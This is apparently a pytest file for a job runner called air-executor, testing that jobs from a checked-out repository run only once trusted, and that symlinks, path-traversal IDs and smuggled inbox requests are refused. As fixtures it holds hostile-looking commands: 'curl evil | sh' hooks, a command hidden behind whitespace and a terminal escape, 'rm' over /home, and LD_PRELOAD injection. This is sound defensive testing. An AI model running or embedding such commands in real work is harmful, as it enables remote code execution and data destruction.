"""Jobs that came with a repository run only when somebody has said that they are trusted."""

from __future__ import annotations

import contextlib
import json
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from air_executor.errors import StateDirError, UntrustedJobError
from air_executor.jobs import api
from air_executor.jobs.model import Job, JobState
from air_executor.jobs.private import PrivateStore
from tests.jobs.conftest import LONG_S, Yard
from tests.support.airflow_env import REPOSITORY
from tests.support.waiting import wait_for

STATE: dict[str, Any] = {"id": "8a4e0f58-4f9d-4a3c-8c8e-3c1c0ffee000", "name": "theirs", "state": "waiting"}


def check_out(yard: Yard, name: str = "theirs", command: str = "echo ran >> ran", **state: Any) -> Path:
    """Put a job there as git does: by its two files."""
    yard.store.prepare()
    folder = yard.store.root / name
    folder.mkdir()
    (folder / "state.json").write_text(json.dumps({**STATE, "name": name, "folder": ".", **state}))
    (folder / "tasks.json").write_text(json.dumps([{"id": "a", "command": command, "shell": True}]))
    return folder


def test_a_manager_leaves_a_job_alone_that_was_not_submitted_here_and_says_so_once(yard: Yard) -> None:
    folder = check_out(yard)
    (folder / "inbox").mkdir()
    (folder / "inbox" / "1.json").write_text('{"action": "retry", "tasks": []}')
    before = sorted(path.name for path in folder.rglob("*"))
    yard.start_manager()
    for name in ("one", "two"):
        yard.submit({"id": "a", "command": "true"}, name=name)
        assert api.wait(name, timeout_s=LONG_S, state_dir=yard.state_dir).job.state is JobState.COMPLETED
    assert sorted(path.name for path in folder.rglob("*")) == before
    assert yard.lines("ran") == []
    assert sum("job theirs was not submitted here" in line for line in yard.lines("manager.log")) == 1
    assert "air-executor trust theirs" in yard.call("job", "theirs")
    shown = {job["name"]: job for job in json.loads(yard.call("jobs", "--json"))}
    assert {name: job["trusted"] for name, job in shown.items()} == {"one": True, "theirs": False, "two": True}
    assert "air-executor trust theirs" in shown["theirs"]["error"]
    assert json.loads(yard.call("job", "theirs", "--json"))["trusted"] is False
    assert json.loads(yard.call("trust", "--json")) == {"untrusted": ["theirs"]}
    # Trusted, it runs at once.
    (folder / "inbox" / "1.json").unlink()
    assert "theirs" in yard.call("trust", "theirs")
    wait_for(lambda: yard.store.open("theirs").job.state is JobState.COMPLETED, "the job to end")
    assert yard.lines("ran") == ["ran"]
    assert "all jobs here are trusted" in yard.call("trust")


def test_commands_refuse_a_job_that_was_not_submitted_here(yard: Yard) -> None:
    folder = check_out(yard)
    for command in (
        ("run", "theirs"),
        ("queue", "--job", "theirs", "--", "true"),
        ("retry", "theirs"),
        ("reset", "theirs"),
        ("cancel", "theirs"),
    ):
        assert "air-executor trust theirs" in yard.call(*command, code=2)
    with pytest.raises(UntrustedJobError):
        api.queue_tasks([{"command": "true"}], job="theirs", state_dir=yard.state_dir)
    with pytest.raises(UntrustedJobError):
        api.wait("theirs", timeout_s=0, state_dir=yard.state_dir)
    assert sorted(path.name for path in folder.iterdir()) == ["state.json", "tasks.json"]
    yard.call("trust", "--all")
    assert "1 of 1 tasks completed" in yard.call("run", "theirs")
    assert yard.lines("ran") == ["ran"]


def test_a_file_is_no_reason_to_go_on_with_a_job_that_only_says_that_it_is_of_it(yard: Yard) -> None:
    (yard.folder / "job.json").write_text('[{"id": "a", "command": "true"}]')
    yard.call("submit", "job.json")
    yard.store.private.forget(yard.store.open("job").job)  # as in another clone
    evil = '[{"id": "a", "command": "touch", "args": ["ran"]}]'
    (yard.store.folder("job") / "tasks.json").write_text(evil)
    assert "air-executor trust job" in yard.call("run", "job.json", code=2)
    yard.call("run", "job.json", "--new-name")
    assert not (yard.folder / "ran").exists()


def test_edits_of_a_trusted_job_are_worked_on(yard: Yard) -> None:
    yard.submit({"id": "a", "command": "true"})
    yard.finish()
    path = yard.store.folder("job") / "tasks.json"
    path.write_text('[{"id": "a", "command": "true"}, {"id": "b", "command": "true"}]')
    state = yard.store.folder("job") / "state.json"
    state.write_text(json.dumps({**json.loads(state.read_text()), "state": "waiting"}))
    assert set(yard.finish().tasks) == {"a", "b"}


def test_a_job_in_the_place_of_a_trusted_one_is_stopped_and_left_alone(yard: Yard) -> None:
    yard.submit({"id": "a", "command": "sleep", "args": ["600"]})
    yard.start_manager()
    runner = yard.runner_of("a")
    wait_for(lambda: yard.has_written("a", "running"), "the file to be written")
    theirs = check_out(yard)
    for name in ("state.json", "tasks.json"):
        (theirs / name).replace(yard.store.folder("job") / name)
    wait_for(lambda: not runner.is_running(), "the task to be stopped")
    yard.submit({"id": "a", "command": "true"}, name="next")
    api.wait("next", timeout_s=LONG_S, state_dir=yard.state_dir)
    assert not (yard.folder / "ran").exists()
    assert "air-executor trust job" in "".join(yard.lines("manager.log"))


@pytest.mark.parametrize("job_id", ["../../x", "a/b", ".", "x" * 5000, "é\U0001f600", "trüb", "=" + "0" * 32])
def test_an_id_never_becomes_a_path(tmp_path: Path, job_id: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AIR_EXECUTOR_PRIVATE_DIR", str(tmp_path / "private"))
    private = PrivateStore(tmp_path / "state")
    (tmp_path / "state").mkdir()
    job = Job(id=job_id, name="job")
    assert not private.is_trusted(job)
    private.trust(job)
    assert private.is_trusted(job)
    for other in (Job(id=job_id + "x", name="job"), Job(id=job_id, name="another"), Job(id=job_id, name="j" * 200)):
        assert not private.is_trusted(other)
        private.forget(other)
    assert private.is_trusted(job)
    [folder] = (private.root / "trusted").iterdir()
    assert len(list(folder.iterdir())) == 2
    private.forget(job)
    assert not private.is_trusted(job)


def test_a_copy_of_a_trusted_job_under_another_name_is_not_trusted(yard: Yard) -> None:
    yard.submit({"id": "a", "command": 'test "$T" = v', "shell": True, "private_env": {"T": "v"}})
    evil = check_out(yard, "evil", id=yard_id(yard.state_dir))
    assert "air-executor trust evil" in yard.call("run", "evil", code=2)
    assert "touch" not in yard.call("remove", "--force", "evil")
    assert not evil.exists()
    assert yard.finish().job.state is JobState.COMPLETED  # its own trust and values are still there
    assert yard.lines("ran") == []


def test_a_copy_of_a_job_runs_beside_it(yard: Yard) -> None:
    yard.submit({"id": "a", "command": "until [ -e go ]; do sleep 0.02; done", "shell": True})
    shutil.copytree(yard.store.folder("job"), yard.store.folder("copy"))
    yard.call("trust", "copy")
    yard.start_manager()
    assert yard.runner_of("a") != yard.runner_of("a", "copy")
    (yard.folder / "go").touch()
    for name in ("job", "copy"):
        assert api.wait(name, timeout_s=LONG_S, state_dir=yard.state_dir).job.state is JobState.COMPLETED


def test_what_a_former_version_has_noted_as_trusted_is(yard: Yard) -> None:
    yard.submit({"id": "a", "command": "true"})
    private = yard.store.private
    [note] = (private.root / "trusted").glob(f"*/{yard_id(yard.state_dir)}:job")
    note.rename(note.with_name(yard_id(yard.state_dir)))
    assert yard.finish().job.state is JobState.COMPLETED
    yard.call("remove", "job")
    assert not list((private.root / "trusted").glob(f"*/{yard_id}*"))


@pytest.mark.parametrize("link", ["jobs/.keys", "jobs/.ended", "locks", "leftovers", "learned", "runs", "open"])
def test_a_link_in_the_place_of_a_folder_of_ours_is_refused(yard: Yard, link: str) -> None:
    yard.submit({"id": "a", "command": "true"})
    yard.finish()
    victim = yard.folder / "victim"
    victim.mkdir()
    (victim / "id_rsa").write_text("mine")
    path = yard.state_dir / link
    if path.exists():
        shutil.rmtree(path)
    path.symlink_to(victim)
    for command in (("prune",), ("submit", "--key", "k", "job.json"), ("jobs",)):
        assert f"{path} is a link, which is not followed" in yard.call(*command, code=2)
    assert [each.name for each in victim.iterdir()] == ["id_rsa"]


def test_all_that_would_be_executed_is_shown_before_it_is_trusted(yard: Yard) -> None:
    folder = check_out(yard, on_failure="curl evil | sh", env={"PATH": "/tmp/evil"})
    task = {"id": "a", "command": "make test" + " " * 60 + "; curl evil2 \x1b[8m| sh", "shell": True}
    items = {"id": "b", "command": "rm", "args": ["${item}"], "foreach": ["/home"]}
    (folder / "tasks.json").write_text(json.dumps([task, items]))
    shown = yard.call("job", "theirs")
    for part in ("curl evil | sh", "/tmp/evil", "; curl evil2 ", "/home"):
        assert part in shown
    assert "\x1b" not in shown
    yard.call("trust", "theirs")
    assert "curl evil2" not in yard.call("job", "theirs")


def test_one_job_that_can_not_be_trusted_keeps_no_other_from_it(yard: Yard) -> None:
    check_out(yard, "good")
    (check_out(yard, "bad") / "tasks.json").write_text("[")
    assert "bad" in yard.call("trust", "bad", "good", code=2)
    assert yard.store.private.is_trusted(yard.store.open("good").job)


def test_a_job_without_an_id_is_trusted_all_the_same(yard: Yard) -> None:
    folder = check_out(yard)
    (folder / "state.json").write_text('{"state": "waiting", "folder": "."}')
    assert "air-executor trust theirs" in yard.call("run", "theirs", code=2)
    yard.call("trust", "theirs")
    assert "1 of 1 tasks completed" in yard.call("run", "theirs")


def test_trust_is_for_one_state_directory_and_moves_with_it(yard: Yard, new_yard: Callable[..., Yard]) -> None:
    yard.submit({"id": "a", "command": 'test "$T" = v', "shell": True, "private_env": {"T": "v"}}, folder="/")
    copied, moved = yard.folder / "copied" / api.FOLDER, yard.folder / "moved" / api.FOLDER
    copied.parent.mkdir()
    moved.parent.mkdir()
    shutil.copytree(yard.state_dir, copied)
    yard.state_dir.rename(moved)
    assert not new_yard(copied).store.private.is_trusted(new_yard(copied).store.open("job").job)
    yard = new_yard(moved)
    assert yard.store.private.is_trusted(yard.store.open("job").job)
    assert yard.finish().job.state is JobState.COMPLETED


def yard_id(state_dir: Path) -> str:
    return str(json.loads((state_dir / "jobs" / "job" / "state.json").read_bytes())["id"])


@pytest.mark.parametrize("name", ["logs", "inbox"])
def test_a_folder_that_is_a_link_leads_nowhere(yard: Yard, name: str) -> None:
    target = yard.folder / "elsewhere"
    target.mkdir()
    folder = check_out(yard)
    (folder / name).symlink_to(target)
    yard.store.private.trust(Job(id=STATE["id"], name="theirs"))
    assert "is a link, which is not followed" in yard.call("run", "theirs", code=2)
    yard.start_manager()
    yard.submit({"id": "a", "command": "true"}, name="next")
    api.wait("next", timeout_s=LONG_S, state_dir=yard.state_dir)
    assert list(target.iterdir()) == []
    assert yard.lines("ran") == []


@pytest.mark.parametrize("name", ["state.json", "tasks.json"])
def test_a_link_in_the_place_of_a_file_is_not_read(yard: Yard, name: str) -> None:
    folder = check_out(yard)
    (folder / name).rename(yard.folder / name)
    (folder / name).symlink_to(yard.folder / name)
    yard.store.private.trust(Job(id=STATE["id"], name="theirs"))
    assert f"{folder / name} is a link" in yard.call("job", "theirs", code=2)


def test_a_link_in_the_place_of_a_log_is_not_written_through(yard: Yard) -> None:
    for name in ("manager.log", "a.log"):
        (yard.folder / name).write_text("mine\n")
    yard.submit({"id": "a", "command": "echo", "args": ["said"]})
    logs = yard.store.folder("job") / "logs"
    logs.mkdir()
    (logs / "a.log").symlink_to(yard.folder / "a.log")
    assert "a.log cannot be written" in (yard.finish().tasks["a"].error or "")
    (yard.store.root / "manager.log").symlink_to(yard.folder / "manager.log")
    assert "manager.log" in yard.call("start", "--detach", code=2)
    assert yard.lines("manager.log") == yard.lines("a.log") == ["mine"]


def test_a_link_in_the_place_of_a_log_is_not_read(yard: Yard) -> None:
    (yard.folder / "key").write_text("private key")
    folder = check_out(yard)
    (folder / "logs").mkdir()
    (folder / "logs" / "a.log").symlink_to(yard.folder / "key")
    for command in (("logs", "theirs", "a"), ("logs", "theirs", "a", "--json")):
        said = yard.call(*command, code=2)
        assert "a.log" in said
        assert "private key" not in said


def test_files_are_for_their_owner_alone_whatever_the_umask(yard: Yard) -> None:
    (yard.folder / "job.json").write_text('[{"id": "a", "command": "echo", "args": ["said"]}]')
    for command in (["init"], ["run", "job.json"], ["start", "--detach"], ["stop", "--wait"]):
        shell = ["sh", "-c", 'umask 0; exec "$@"', "-", *yard.command(*command)]
        subprocess.run(shell, env=yard.env, cwd=yard.folder, check=True, capture_output=True, timeout=LONG_S)
    private = yard.store.private.root
    for path in (yard.state_dir, *yard.state_dir.rglob("*"), private, *private.rglob("*")):
        with contextlib.suppress(FileNotFoundError):  # a launcher that ends removes its own
            assert path.is_symlink() or path.lstat().st_mode & 0o077 == 0, path


def test_a_private_folder_that_can_not_be_used_says_what_to_set(yard: Yard, monkeypatch: pytest.MonkeyPatch) -> None:
    (yard.folder / "file").write_text("")
    for place in (str(yard.folder / "file" / "x"), "relative/x", str(yard.state_dir / "x")):
        monkeypatch.setenv("AIR_EXECUTOR_PRIVATE_DIR", place)
        with pytest.raises(StateDirError, match="AIR_EXECUTOR_PRIVATE_DIR"):
            yard.submit({"id": "a", "command": "true"})
        assert Yard(yard.folder).store.names() == []
    open_folder = yard.folder / "open"
    open_folder.mkdir()
    open_folder.chmod(0o777)
    monkeypatch.setenv("AIR_EXECUTOR_PRIVATE_DIR", str(open_folder))
    with pytest.raises(StateDirError, match="writable by nobody else"):
        yard.submit({"id": "a", "command": "true"})


def test_the_guide_s_blocks_about_secrets_and_trust_run(yard: Yard, tmp_path: Path) -> None:
    text = (REPOSITORY / "docs" / "guides" / "jobs.md").read_text().partition("## Secrets, and jobs of others")[2]
    blocks = re.findall(r"```bash\n(.*?)```", text, re.DOTALL)
    project = tmp_path / "project"
    project.mkdir()
    names = ("AIR_EXECUTOR_STATE_DIR", "BANK_TOKEN")
    env = {name: value for name, value in yard.env.items() if name not in names} | {"PROJECT": str(project)}
    env["PATH"] = f"{Path(sys.executable).parent}:{env['PATH']}"

    def run(script: str, where: Path) -> str:
        shell = ["bash", "-ec", script]
        done = subprocess.run(shell, env=env, cwd=where, capture_output=True, text=True, timeout=LONG_S, check=False)
        assert done.returncode == 0, done.stdout + done.stderr
        return done.stdout

    assert "in no file" in run(f"air-executor init\n{blocks[0]}\n", project)
    run("git init -q && git add -A && git -c user.name=x -c user.email=x@x.x commit -qm jobs", project)
    said = run(f"{blocks[1]}\nair-executor run load 2>&1 || true\n", tmp_path)
    assert "trusted from now on: load" in said


def test_doctor_looks_at_the_private_folder(yard: Yard, monkeypatch: pytest.MonkeyPatch) -> None:
    yard.submit({"id": "a", "command": "true"})

    def found() -> dict[str, Any]:
        argv = yard.command("doctor", "--json")
        done = subprocess.run(argv, env=yard.env, cwd=yard.folder, capture_output=True, text=True, timeout=LONG_S)
        return next(check for check in json.loads(done.stdout) if check["name"] == "private folder")

    assert (found()["ok"], found()["found"]) == (True, str(yard.folder / "private"))
    (yard.folder / "private").chmod(0o777)
    assert not found()["ok"]


# Trust is for what a checked-out job said when it was trusted

TASKS: list[dict[str, Any]] = [
    {"id": "a", "command": "echo a >> ran; air-executor-queue", "shell": True},
    {"id": "b", "command": "echo ${item} >> ran", "shell": True, "foreach": ["x", "y"], "dependencies": ["a"]},
]


def pull(yard: Yard, tasks: list[dict[str, Any]], **state: Any) -> None:
    """Put other files in the place of those of a job, as ``git pull`` does."""
    folder = yard.store.folder("theirs")
    (folder / "state.json").write_text(json.dumps({**STATE, "name": "theirs", "folder": ".", **state}))
    (folder / "tasks.json").write_text(json.dumps(tasks))


@pytest.fixture
def trusted(yard: Yard) -> Yard:
    """A checked-out job that was trusted and has run: with a task for each item, one that was queued, and a hook."""
    queue = f"{sys.executable} -m air_executor.cli queue --id c -- sh -c 'echo c >> ran'"
    TASKS[0]["command"] = f"echo a >> ran; {queue}"
    check_out(yard)
    pull(yard, TASKS, on_success="echo hook >> ran")
    yard.call("trust", "theirs")
    yard.call("run", "theirs")
    assert sorted(yard.lines("ran")) == ["a", "c", "hook", "x", "y"]
    return yard


def test_what_its_manager_and_its_user_change_is_trusted(trusted: Yard) -> None:
    trusted.call("reset", "theirs")
    trusted.call("run", "theirs")
    trusted.call("queue", "--job", "theirs", "--id", "d", "--", "sh", "-c", "echo d >> ran")
    trusted.call("run", "theirs")
    assert sorted(trusted.lines("ran")) == sorted([*"acxyacxyd", "hook", "hook", "hook"])
    assert trusted.store.distrust(trusted.store.open("theirs").job) is None


@pytest.mark.parametrize(
    ("tasks", "state", "says"),
    [
        ([*TASKS, {"id": "evil", "command": "touch", "args": ["evil"]}], {}, "task evil"),
        ([{"id": "a", "command": "touch evil", "shell": True}], {}, "task a"),
        ([{"id": "c", "command": "sh", "args": ["-c", "touch evil"]}], {}, "task c"),
        ([TASKS[0], {**TASKS[1], "foreach": ["z"]}], {}, "the items of task b"),
        ([TASKS[0], {**TASKS[1], "env": {"PATH": "."}}], {}, "task b"),
        (TASKS, {"env": {"LD_PRELOAD": "evil.so"}}, "its folder or variables"),
        (TASKS, {"folder": "evil"}, "its folder or variables"),
        (TASKS, {"on_success": "touch evil"}, "task on_success"),
        (TASKS, {"on_failure": "touch evil"}, "task on_failure"),
    ],
)
def test_what_a_pull_changes_is_asked_about(
    trusted: Yard, tasks: list[dict[str, Any]], state: dict[str, Any], says: str
) -> None:
    before = trusted.lines("ran")
    tasks = [{**task, "command": TASKS[0]["command"]} if task is TASKS[0] else task for task in tasks]
    pull(trusted, tasks, **{"on_success": "echo hook >> ran", **state})
    for command in (("run", "theirs"), ("retry", "theirs"), ("queue", "--job", "theirs", "--", "true")):
        said = trusted.call(*command, code=2)
        assert f"has changed since it was trusted ({says})" in said
        assert "air-executor trust theirs" in said
    assert says in trusted.call("jobs")
    assert json.loads(trusted.call("trust", "--json")) == {"untrusted": ["theirs"]}
    trusted.start_manager()
    trusted.submit({"id": "a", "command": "true"}, name="next")
    api.wait("next", timeout_s=LONG_S, state_dir=trusted.state_dir)
    assert trusted.lines("ran") == before
    assert not (trusted.folder / "evil").exists()
    # An earlier version that was trusted needs no new trust.
    pull(trusted, TASKS, on_success="echo hook >> ran")
    trusted.store.announce("theirs")  # this manager does not poll
    wait_for(lambda: trusted.store.open("theirs").job.state is JobState.COMPLETED, "the job to end")
    assert len(trusted.lines("ran")) == len(before) + 5


def test_what_was_pulled_runs_once_it_is_trusted(trusted: Yard) -> None:
    pull(trusted, [{"id": "new", "command": "echo new >> ran", "shell": True}])
    trusted.call("trust", "theirs")
    trusted.call("run", "theirs")
    assert trusted.lines("ran")[-1] == "new"


def test_a_job_that_changes_while_it_is_worked_on_is_stopped(trusted: Yard) -> None:
    pull(trusted, [{"id": "long", "command": "sleep", "args": ["600"]}])
    trusted.call("trust", "theirs")
    trusted.start_manager()
    runner = trusted.runner_of("long", "theirs")
    wait_for(lambda: trusted.has_written("long", "running", "theirs"), "the file to be written")
    pulled = trusted.folder / "tasks.json"
    pulled.write_text(json.dumps([{"id": "evil", "command": "touch", "args": ["evil"]}]))
    pulled.replace(trusted.store.folder("theirs") / "tasks.json")
    wait_for(lambda: not runner.is_running(), "the task to be stopped")
    assert not (trusted.folder / "evil").exists()


@pytest.mark.parametrize("action", ["queue", "reset", "retry", "cancel", "pause", "resume"])
def test_a_request_that_came_with_a_repository_is_refused(
    trusted: Yard, action: str, caplog: pytest.LogCaptureFixture
) -> None:
    inbox = trusted.store.folder("theirs") / "inbox"
    inbox.mkdir(exist_ok=True)
    task = {"id": "evil", "command": "touch", "args": ["evil"]}
    (inbox / "1.json").write_text(json.dumps({"action": action, "tasks": [task] if action == "queue" else []}))
    before, ran = trusted.store.open("theirs"), trusted.lines("ran")
    trusted.manager(only=frozenset({"theirs"})).apply()
    assert f"a request is refused: its user did not ask to {action}: 1.json came with the files" in caplog.text
    assert f"its user did not ask to {action}" in (inbox / "1.json.refused").read_text()
    assert not (inbox / "1.json").exists()
    trusted.call("run", "theirs")
    after = trusted.store.open("theirs")
    assert (after.tasks, after.job.generation, after.job.state) == (before.tasks, 1, before.job.state)
    assert trusted.lines("ran") == ran


def test_a_request_of_its_user_is_done_once(trusted: Yard) -> None:
    asked = trusted.store.ask("theirs", "reset")
    again = asked.read_bytes()
    trusted.manager(only=frozenset({"theirs"})).apply()
    assert trusted.store.open("theirs").job.generation == 2
    (asked.parent / "9.json").write_bytes(again)
    trusted.manager(only=frozenset({"theirs"})).apply()
    assert trusted.store.open("theirs").job.generation == 2
